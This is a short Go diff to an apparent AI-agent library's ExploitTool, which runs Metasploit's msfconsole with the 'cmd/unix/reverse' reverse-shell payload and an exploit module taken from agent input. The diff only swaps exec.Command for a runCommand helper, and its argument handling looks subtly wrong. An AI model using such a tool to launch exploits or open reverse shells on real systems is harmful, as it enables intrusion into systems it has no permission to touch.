@@ -4,7 +4,6 @@ import (
 	"context"
 	"encoding/json"
 	"fmt"
-	"os/exec"
 
 	"github.com/Swarmind/libagent/internal/tools"
 	"github.com/Swarmind/libagent/pkg/config"
@@ -45,7 +44,7 @@ func (s *ExploitTool) Call(ctx context.Context, input string) (string, error) {
 	// Execute 'use cmd/unix/reverse' before running the exploit
 	cmdUse := []string{"msfconsole"}
 	cmdUse = append(cmdUse, "use", "cmd/unix/reverse")
-	outputUse, errUse := exec.Command("msfconsole", cmdUse...).CombinedOutput()
+	outputUse, errUse := runCommand(ctx, "msfconsole", cmdUse...)
 	if errUse != nil {
 		return "", fmt.Errorf("failed to execute 'use cmd/unix/reverse': %w - output: %s", errUse, string(outputUse))
 	}
@@ -57,7 +56,7 @@ func (s *ExploitTool) Call(ctx context.Context, input string) (string, error) {
 	cmdExploit = append(cmdExploit, "use", exploitArgs.Module)
 	cmdExploit = append(cmdExploit, "run")
 
-	outputExploit, errExploit := exec.Command("msfconsole", cmdExploit...).CombinedOutput()
+	outputExploit, errExploit := runCommand(ctx, "msfconsole", cmdExploit...)
 	if errExploit != nil {
 		return "", fmt.Errorf("failed to execute msfconsole: %w - output: %s", errExploit, string(outputExploit))
 	}